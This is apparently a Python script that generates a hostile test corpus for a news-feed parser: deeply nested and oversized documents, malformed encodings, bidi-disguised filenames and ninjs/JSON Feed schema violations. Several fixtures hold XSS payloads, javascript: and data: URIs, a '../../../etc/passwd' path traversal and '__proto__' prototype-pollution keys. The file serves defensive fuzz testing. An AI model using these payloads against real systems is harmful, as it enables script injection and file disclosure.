    add("encodings", "meta-charset-after-4kb.html", page(story).replace('<meta charset="utf-8">', "<!-- " + "x" * 5000 + ' --><meta charset="windows-1251">').encode("utf-8"), format="page")
    add("encodings", "xml-declared-replacement.xml", feed.replace('encoding="UTF-8"', 'encoding="replacement"').encode("utf-8"), format="rss")
    add("encodings", "xml-declared-x-user-defined.xml", feed.replace('encoding="UTF-8"', 'encoding="x-user-defined"').encode("utf-8"), format="rss")
    add("encodings", "json-utf16-no-bom.json", ninjs(story).encode("utf-16-le"), format="ninjs")
    add("encodings", "json-bom-utf8.json", codecs.BOM_UTF8 + ninjs(story).encode("utf-8"), format="ninjs")
    add("encodings", "json-lone-surrogate-escapes.json", ninjs(Story(guid="urn:hostile:enc:surrogate", title="Lone \\ud800 surrogate", body="x")).replace("\\\\ud800", "\\ud800").replace("Lone \\ud800", "Lone \\udfff\\ud800"), format="ninjs")
    add("encodings", "json-escaped-nul-and-controls.json", ninjs(Story(guid="urn:hostile:enc:nul", title="Headline", body="x")).replace('"Headline"', '"Head\\u0000line \\u0008\\u001b\\u007f\\ufffe\\uffff"'), format="ninjs")
    add("encodings", "bidi-and-invisible-headline.txt", capture(Story(guid="urn:hostile:enc:bidi", title="Harbour \u202egnp.exe\u202c reopens \u200b\u200c\u200d\u2060\ufeff today", body="Text \u202e reversed \u202c and \u0000 NUL")), format="capture")
    add("encodings", "windows-1252-smart-quotes-declared-iso.html", page(story).replace('<meta charset="utf-8">', '<meta charset="iso-8859-1">').replace("✓", "").replace("Ação", "Acao").replace("São", "Sao").replace("ünïcödé", "unicode").encode("cp1252", "replace"), format="page")


# Huge and deeply nested inputs (each file under 1 MB).

def build_huge(corpus: Corpus) -> None:
    add = corpus.add
    add("huge", "deep-divs-page.html", "<!doctype html><html><body><article><h1>Deep page</h1>" + "<div>" * 20_000 + "<p>" + NORMAL[0] + "</p>" + "</div>" * 20_000 + "</article></body></html>", format="page")
    add("huge", "deep-unclosed-page.html", "<!doctype html><html><body><h1>Unclosed</h1>" + "<div><span><b>" * 10_000 + NORMAL[0], format="page")
    add("huge", "deep-inline-body-rss.xml", rss(Story(guid="urn:hostile:huge:inline", title="Deep inline body", body="<b><i>" * 20_000 + NORMAL[0] + "</i></b>" * 20_000)), format="rss")
    add("huge", "deep-blockquote-ninjs.json", ninjs(Story(guid="urn:hostile:huge:bq", title="Deep quotes", body="<blockquote>" * 10_000 + NORMAL[0] + "</blockquote>" * 10_000)), format="ninjs")
    add("huge", "deep-lists-jsonfeed.json", json_feed(Story(guid="urn:hostile:huge:ul", title="Deep lists", body="<ul><li>" * 20_000 + NORMAL[0])), format="jsonfeed")
    add("huge", "deep-table-page.html", "<!doctype html><html><body><h1>Tables</h1>" + "<table><tr><td>" * 8_000 + NORMAL[0] + "</td></tr></table>" * 8_000 + "</body></html>", format="page")
    add("huge", "deep-xml-elements-rss.xml", rss(Story(guid="urn:hostile:huge:xml", title="Deep XML", body="x")).replace("<description>", "<x>" * 10_000 + "</x>" * 10_000 + "<description>"), format="rss")
    add("huge", "deep-xml-elements-newsml-g2.xml", newsml_g2(Story(guid="urn:hostile:huge:g2", title="Deep XML", body="x")).replace("<contentMeta>", "<contentMeta>" + "<headline>" * 10_000 + "</headline>" * 10_000), format="newsml-g2")
    add("huge", "deep-xhtml-newsml-g2.xml", newsml_g2(Story(guid="urn:hostile:huge:g2x", title="Deep XHTML", body="<b>" * 5_000 + "deep" + "</b>" * 5_000)), format="newsml-g2")
    add("huge", "deep-json-arrays-ninjs.json", '{"uri": "urn:hostile:huge:json", "type": "text", "headlines": ' + "[" * 50_000 + "]" * 50_000 + "}", format="ninjs")
    add("huge", "deep-json-objects-ninjs.json", '{"uri": "urn:hostile:huge:json2", "type": "text", "bodies": [' + '{"a":' * 30_000 + "1" + "}" * 30_000 + "]}", format="ninjs")
    add("huge", "deep-json-jsonfeed.json", '{"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": [{"id": "1", "title": "Deep", "content_html": "<p>x</p>", "tags": ' + "[" * 50_000 + "]" * 50_000 + "}]}", format="jsonfeed")
    add("huge", "deep-associations-ninjs.json", '{"uri": "urn:hostile:huge:assoc", "type": "text", "headlines": [{"value": "Deep associations"}], "bodies": [{"contentType": "text/plain", "value": "x"}], "associations": [' + '{"uri": "u", "type": "picture", "associations": [' * 5_000 + "]}" * 5_000 + "]}", format="ninjs")
    add("huge", "huge-attribute-page.html", page(Story(guid="urn:hostile:huge:attr", title="Huge attribute", body=f'<img src="https://images.example/a.jpg" alt="{"A" * 900_000}">')), format="page")
    add("huge", "huge-attribute-rss.xml", rss(Story(guid="urn:hostile:huge:attr:rss", title="Huge attribute", body="x")).replace('medium="image"', f'medium="image" title="{"B" * 500_000}"'), format="rss")
    add("huge", "huge-headline-ninjs.json", ninjs(Story(guid="urn:hostile:huge:headline", title="Headline " * 50_000, body="x")), format="ninjs")
    add("huge", "huge-guid-atom.xml", atom(Story(guid="urn:" + "g" * 300_000, title="Huge guid", body="x")), format="atom")
    add("huge", "many-paragraphs-ninjs.json", ninjs(Story(guid="urn:hostile:huge:paras", title="Twenty thousand paragraphs", body="</p><p>".join(f"Paragraph {n}." for n in range(20_000)))), format="ninjs")
    add("huge", "many-empty-items-rss.xml", rss(Story(guid="urn:hostile:huge:items", title="One real item", body="x")).replace("<item>", "<item></item>" * 40_000 + "<item>"), format="rss")
    add("huge", "many-items-without-titles-jsonfeed.json", json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": [{"id": str(n), "content_html": "<p>x</p>"} for n in range(10_000)]}), format="jsonfeed")
    add("huge", "many-attributes-page.html", page(Story(guid="urn:hostile:huge:attrs", title="Many attributes", body="<p " + " ".join(f"a{n}=x" for n in range(40_000)) + ">x</p>")), format="page")
    add("huge", "many-ninjs-items.json", json.dumps([{"uri": f"urn:hostile:huge:many:{n}", "type": "picture"} for n in range(10_000)]), format="ninjs")


# ninjs and JSON Feed schema violations.

def _ninjs_base() -> dict:
    return json.loads(ninjs(Story(guid="urn:hostile:ninjs", title="A harbour story", body="The harbour reopened.")))


NINJS_VIOLATIONS: dict[str, object] = {
    "uri-missing": {"uri": None},
    "uri-number": {"uri": 12345},
    "uri-object": {"uri": {"href": "x"}},
    "uri-huge": {"uri": "urn:" + "u" * 100_000},
    "uri-javascript": {"uri": "javascript:alert(1)"},
    "type-unknown": {"type": "hologram"},
    "type-array": {"type": ["text", "picture"]},
    "headlines-string": {"headlines": "A headline as a string"},
    "headlines-number": {"headlines": 42},
    "headlines-empty-objects": {"headlines": [{}, {}, None, 3]},
    "headline-value-number": {"headlines": [{"role": "main", "value": 3.14}]},
    "headline-value-object": {"headlines": [{"role": "main", "value": {"text": "x"}}]},
    "bodies-object": {"bodies": {"role": "main", "value": "x"}},
    "bodies-number-values": {"bodies": [{"role": "main", "contentType": "text/html", "value": 5}]},
    "body-contenttype-javascript": {"bodies": [{"role": "main", "contentType": "application/javascript", "value": "alert(1)"}]},
    "body-contenttype-svg": {"bodies": [{"role": "main", "contentType": "image/svg+xml", "value": "<svg onload=alert(1)>"}]},
    "body-contenttype-missing-html": {"bodies": [{"role": "main", "value": "<script>alert(1)</script><p>Text</p>"}]},
    "version-created-garbage": {"versionCreated": "not a date", "firstCreated": "yesterday"},
    "version-created-impossible": {"versionCreated": "9999-99-99T99:99:99Z", "firstCreated": "0000-00-00T00:00:00Z"},
    "version-created-number": {"versionCreated": 1725436800, "firstCreated": -1},
    "version-created-bad-offset": {"versionCreated": "2025-09-04T08:00:00+25:00"},
    "version-created-year-one": {"versionCreated": "0001-01-01T00:00:00Z", "firstCreated": "9999-12-31T23:59:59-23:59"},
    "urgency-string": {"urgency": "high"},
    "urgency-huge": {"urgency": 10**400},
    "urgency-negative": {"urgency": -1},
    "language-path": {"language": "../../../etc/passwd"},
    "language-huge": {"language": "en-" + "x" * 10_000},
    "located-object": {"located": {"name": "PORTVILLE"}},
    "by-array": {"by": ["Ana", "Pedro", None]},
    "subjects-string": {"subjects": "World"},
    "subjects-many": {"subjects": [{"name": f"Subject {n}"} for n in range(10_000)]},
    "associations-string": {"associations": "lead-image"},
    "associations-not-objects": {"associations": [1, "two", None, [3]]},
    "renditions-bad": {"associations": [{"name": "lead-image", "type": "picture", "renditions": [{"href": "javascript:alert(1)", "width": "big"}, {"href": 5, "width": -1, "height": 1e308}, None]}]},
    "renditions-data-uri": {"associations": [{"name": "lead-image", "type": "picture", "renditions": [{"href": "data:image/svg+xml,<svg onload=alert(1)>", "contentType": "image/svg+xml", "width": 10}]}]},
    "descriptions-nested-garbage": {"descriptions": [{"role": {"x": 1}, "value": ["a"]}]},
    "pubstatus-unknown": {"pubStatus": "exploded"},
    "every-field-null": {key: None for key in ("type", "version", "language", "headlines", "bodies", "descriptions", "associations", "subjects", "located", "by", "versionCreated")},
    "every-field-empty": {key: "" for key in ("type", "version", "language", "headlines", "bodies", "descriptions", "associations", "subjects", "located", "by", "versionCreated")},
    "extra-fields-proto": {"__proto__": {"admin": True}, "constructor": {"prototype": {"x": 1}}},
}


def build_ninjs(corpus: Corpus) -> None:
    for name, changes in NINJS_VIOLATIONS.items():
        item = _ninjs_base()
        for key, value in changes.items():  # type: ignore[union-attr]
            if value is None and key == "uri":
                item.pop("uri")
            else:
                item[key] = value
        corpus.add("ninjs", f"ninjs-{name}.json", json.dumps(item, ensure_ascii=False), format="ninjs")
    text = json.dumps(_ninjs_base())
    add = corpus.add
    add("ninjs", "ninjs-nan-and-infinity.json", text.replace('"width": 1200', '"width": NaN').replace('"height": 800', '"height": -Infinity'), format="ninjs")
    add("ninjs", "ninjs-duplicate-keys.json", text.replace('"type": "text"', '"type": "text", "type": "picture", "uri": "urn:other"'), format="ninjs")
    add("ninjs", "ninjs-trailing-garbage.json", text + "\n}}]]<script>alert(1)</script>", format="ninjs")
    add("ninjs", "ninjs-truncated.json", text[: len(text) // 2], format="ninjs", expect="refused", reasons=["invalid_ninjs", "unknown_format"])
    add("ninjs", "ninjs-collection-of-junk.json", json.dumps([_ninjs_base(), 1, "two", None, [], {}, {"uri": 5}]), format="ninjs")
    add("ninjs", "ninjs-empty-collection.json", "[]", format="ninjs")
    add("ninjs", "ninjs-top-level-string.json", '"urn:hostile:just-a-string"', format="ninjs")
    feed = json.loads(json_feed(Story(guid="urn:hostile:jsonfeed", title="A harbour story", body="The harbour reopened.")))
    item = feed["items"][0]
    jsonfeed_violations = {
        "items-number": {"items": 5},
        "items-string": {"items": "not a list"},
        "items-object": {"items": {"id": "1", "title": "x", "content_html": "<p>x</p>"}},
        "items-junk": {"items": [1, None, "x", [], {"title": 5, "content_html": ["a"]}]},
        "item-fields-wrong-types": {"items": [{**item, "title": ["list"], "content_html": {"x": 1}, "url": 5, "image": {"u": 1}, "authors": "Ana", "tags": "World", "date_published": 12}]},
        "item-dates-garbage": {"items": [{**item, "date_published": "the day before yesterday", "date_modified": "9999-99-99"}]},
        "item-authors-junk": {"items": [{**item, "authors": [None, 1, {"name": ["x"]}, {"name": "<script>alert(1)</script>"}]}]},
        "item-attachments-junk": {"items": [{**item, "attachments": "x", "image": "javascript:alert(1)", "banner_image": "data:text/html,<script>alert(1)</script>"}]},
        "version-number": {"version": 1.1},
        "title-object": {"title": {"x": 1}, "home_page_url": ["javascript:alert(1)"], "feed_url": 5},
        "author-string": {"author": "Ana", "authors": 7, "language": ["en"]},
    }
    for name, changes in jsonfeed_violations.items():
        add("ninjs", f"jsonfeed-{name}.json", json.dumps({**feed, **changes}), format="jsonfeed")


def main() -> None:
    corpus = Corpus(HERE)
    for kind in KINDS:
        shutil.rmtree(HERE / kind, ignore_errors=True)
    build_xml_bombs(corpus)
    build_xss(corpus)
    build_links(corpus)
    build_regex(corpus)
    build_encodings(corpus)
    build_huge(corpus)
    build_ninjs(corpus)
    corpus.write_manifest()
    counts = {kind: sum(1 for e in corpus.entries if e.kind == kind) for kind in KINDS}
    print(f"{len(corpus.entries)} files: " + ", ".join(f"{kind} {count}" for kind, count in counts.items()))


if __name__ == "__main__":
    main()
